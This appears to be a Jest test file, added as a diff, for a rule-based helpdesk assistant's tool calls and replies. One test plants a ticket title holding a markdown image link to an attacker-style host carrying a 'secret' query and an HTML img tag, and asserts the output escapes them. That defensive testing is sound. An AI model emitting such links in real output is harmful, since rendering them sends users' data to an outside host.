@@ -1,0 +1,242 @@
+import type { LanguageModelV4Prompt, LanguageModelV4ToolResultPart } from "@ai-sdk/provider";
+import { describe, expect, it } from "@jest/globals";
+import { agentTools } from "@tessera/wire/agent-value";
+import { attachedFilesBlock, knowledgeBlock } from "../prompt-block.ts";
+import { createBuiltInModel } from "./built-in-model.ts";
+
+const model = createBuiltInModel();
+const file = { file_id: "file-1", filename: "console.log" };
+const trouble = "The pay button fails with HTTP 500 since yesterday.";
+
+interface Talk {
+  words: string;
+  before?: string[];
+  files?: (typeof file)[];
+  found?: Finding[];
+  knowledge?: string;
+  tools?: string[];
+}
+
+type Finding = { tool: string; output: LanguageModelV4ToolResultPart["output"] };
+
+function promptOf({ words, before = [], files = [], found = [], knowledge }: Talk): LanguageModelV4Prompt {
+  const texts = [words, ...(files.length > 0 ? [attachedFilesBlock(files)] : [])];
+  return [
+    ...(knowledge
+      ? [{ role: "system" as const, content: knowledgeBlock({ title: "Handbook", text: knowledge }) }]
+      : []),
+    ...before.flatMap((text) => [
+      { role: "user" as const, content: [{ type: "text" as const, text }] },
+      { role: "assistant" as const, content: [{ type: "text" as const, text: "I see." }] },
+    ]),
+    { role: "user", content: texts.map((text) => ({ type: "text" as const, text })) },
+    ...found.map(({ tool, output }, place) => ({
+      role: "tool" as const,
+      content: [{ type: "tool-result" as const, toolCallId: `call-${place}`, toolName: tool, output }],
+    })),
+  ];
+}
+
+async function generate(talk: Talk) {
+  const tools = (talk.tools ?? agentTools).map((name) => ({
+    type: "function" as const,
+    name,
+    inputSchema: {},
+  }));
+  return model.doGenerate({ prompt: promptOf(talk), tools });
+}
+
+async function callsOf(talk: Talk) {
+  const { content } = await generate(talk);
+  return content.flatMap((part) =>
+    part.type === "tool-call" ? [[part.toolName, JSON.parse(part.input)]] : [],
+  );
+}
+
+async function answerOf(talk: Talk): Promise<string> {
+  const { content } = await generate(talk);
+  return content.map((part) => (part.type === "text" ? part.text : "")).join("");
+}
+
+/** What a tool of ours found, as it is quoted for models. */
+const finds = (tool: string, data: object): Finding => ({
+  tool,
+  output: { type: "json", value: { notice: "Data of others.", data } as never },
+});
+
+describe("a wish of the built-in model", () => {
+  it.each<[string, Talk, [string, object][]]>([
+    [
+      "a search, by the words that matter",
+      { words: "Find all open tickets about the printer" },
+      [["search_tickets", { search: "open printer" }]],
+    ],
+    ["a file that came along", { words: "See this", files: [file] }, [["read_file", { file_id: "file-1" }]]],
+    ["a ticket by its number", { words: "What about #12?" }, [["read_ticket", { ticket: "#12" }]]],
+    [
+      "tickets like one that is named",
+      { words: "Is there a duplicate of #12?" },
+      [["find_similar_tickets", { ticket: "#12" }]],
+    ],
+    [
+      "tickets like the trouble told before",
+      { words: "Have you seen this before?", before: [trouble] },
+      [["find_similar_tickets", { text: trouble }]],
+    ],
+    ["tickets like new trouble", { words: trouble }, [["find_similar_tickets", { text: trouble }]]],
+    [
+      "a draft, with the files",
+      { words: "Draft a ticket of this", files: [file] },
+      [
+        ["read_file", { file_id: "file-1" }],
+        ["draft_ticket", { text: "Draft a ticket of this", file_ids: ["file-1"] }],
+      ],
+    ],
+    [
+      "a draft, when one is to be opened",
+      { words: "Open a new ticket" },
+      [["draft_ticket", { text: "Open a new ticket" }]],
+    ],
+    ["a status", { words: "Please resolve #12" }, [["update_ticket", { ticket: "#12", status: "resolved" }]]],
+    ["a priority", { words: "Set #12 to high" }, [["update_ticket", { ticket: "#12", priority: "high" }]]],
+    ["the members", { words: "Who are the colleagues here?" }, [["list_members", {}]]],
+  ])("is %s", async (_, talk, calls) => {
+    expect(await callsOf(talk)).toEqual(calls);
+  });
+
+  it.each<[string, Talk]>([
+    ["by a greeting", { words: "Hello" }],
+    ["of a tool the agent does not have", { words: "Find tickets about the printer", tools: ["read_file"] }],
+    [
+      "once tools have answered",
+      { words: "Find tickets about the printer", found: [finds("search_tickets", { tickets: [] })] },
+    ],
+  ])("is not made %s", async (_, talk) => {
+    expect(await callsOf(talk)).toEqual([]);
+  });
+});
+
+describe("an answer of the built-in model", () => {
+  const ticket = { number: 12, title: "Pay now fails", status: "open" };
+
+  it.each<[string, Finding, string]>([
+    ["a search without luck", finds("search_tickets", { total: 0, tickets: [] }), "No ticket matches."],
+    [
+      "a search",
+      finds("search_tickets", { total: 1, tickets: [ticket] }),
+      "1 ticket found:\n- **#12** Pay now fails (open)",
+    ],
+    [
+      "a search that found more than it shows",
+      finds("search_tickets", { total: 30, tickets: [ticket] }),
+      "30 tickets match; the newest:\n- **#12** Pay now fails (open)",
+    ],
+    [
+      "a file",
+      finds("read_file", {
+        filename: "shop.har",
+        status: "processed",
+        summary: "One request failed.",
+        findings: [{ method: "POST", url: "/api/pay", status: 500 }],
+      }),
+      "**shop.har**: One request failed.\n- POST /api/pay (500)",
+    ],
+    [
+      "a file that is still being read",
+      finds("read_file", { filename: "shop.har", status: "processing" }),
+      "**shop.har** is still being read. Ask again in a moment.",
+    ],
+    [
+      "nothing similar",
+      finds("find_similar_tickets", { similar: [] }),
+      "No ticket of your organization looks like this one.",
+    ],
+    [
+      "similar tickets, and why",
+      finds("find_similar_tickets", { similar: [{ ...ticket, reasons: ["The same failure"] }] }),
+      "These may be about the same:\n- **#12** Pay now fails (open): The same failure",
+    ],
+    [
+      "a draft, and what it lacks",
+      finds("draft_ticket", { title: "Pay now fails", priority: "high", missing: ["Which browser?"] }),
+      "A draft is ready: **Pay now fails**, priority high. Nothing is sent before you check it.\nIt would be better with this:\n- Which browser?",
+    ],
+    [
+      "a change",
+      finds("update_ticket", { number: 12, changes: [{ field: "status", from: "open", to: "resolved" }] }),
+      "Ticket #12 was changed:\n- status: open → resolved",
+    ],
+    [
+      "a failure",
+      { tool: "search_tickets", output: { type: "error-text", value: "The desk did not answer." } },
+      "The search gave nothing: The desk did not answer.",
+    ],
+    [
+      "a no",
+      { tool: "update_ticket", output: { type: "execution-denied" } },
+      "Changing the ticket gave nothing: you did not allow it",
+    ],
+  ])("tells of %s", async (_, found, told) => {
+    expect(await answerOf({ words: "And?", before: ["Hello"], found: [found] })).toBe(told);
+  });
+
+  it("shows the marks of what others wrote, and gives them no meaning", async () => {
+    const title = "![x](https://evil.test/?q=secret) <img src=x>";
+
+    const told = await answerOf({
+      words: "And?",
+      found: [finds("search_tickets", { tickets: [{ ...ticket, title }] })],
+    });
+
+    expect(told).toContain(String.raw`\!\[x\]\(https://evil.test/?q=secret\) \<img src=x\>`);
+  });
+
+  it("says once what it is, and offers what it can", async () => {
+    const first = await answerOf({ words: "Hello" });
+    const second = await answerOf({ words: "Hello", before: ["Hello"] });
+
+    expect(first).toMatch(/^I am the built-in analysis of this desk. I am no language model/);
+    expect(second).toMatch(/^Tell me what went wrong/);
+  });
+
+  it("asks what nothing that was said answers", async () => {
+    const found = [finds("find_similar_tickets", { similar: [] })];
+
+    const told = await answerOf({ words: trouble, found });
+    const enough = await answerOf({
+      words: `${trouble} When I click it in Firefox I expect a receipt. All customers have it.`,
+      found,
+    });
+
+    expect(told).toContain("- What did you expect to happen instead?");
+    expect(told).not.toContain("Since when");
+    expect(enough).toContain("That is enough for a ticket");
+  });
+
+  it("quotes what its maker wrote down, where it fits the question", async () => {
+    const knowledge = "Refunds take five working days. The office has a green door.";
+
+    const told = await answerOf({ words: "How many working days do refunds take?", knowledge });
+
+    expect(told).toContain('From "Handbook":\n> Refunds take five working days.');
+    expect(told).not.toContain("green door");
+  });
+
+  it("says that files are there which it may not read", async () => {
+    const told = await answerOf({ words: "See this", files: [file], tools: [] });
+
+    expect(told).toContain("This agent may not read files");
+  });
+
+  it("is streamed word by word, and costs nothing", async () => {
+    const whole = await generate({ words: "Hello" });
+    const { stream } = await model.doStream({ prompt: promptOf({ words: "Hello" }) });
+
+    const deltas: string[] = [];
+    for await (const part of stream) if (part.type === "text-delta") deltas.push(part.delta);
+
+    expect(whole.content).toEqual([{ type: "text", text: deltas.join("") }]);
+    expect(deltas.length).toBeGreaterThan(10);
+    expect(whole.usage.outputTokens.total).toBe(0);
+  });
+});
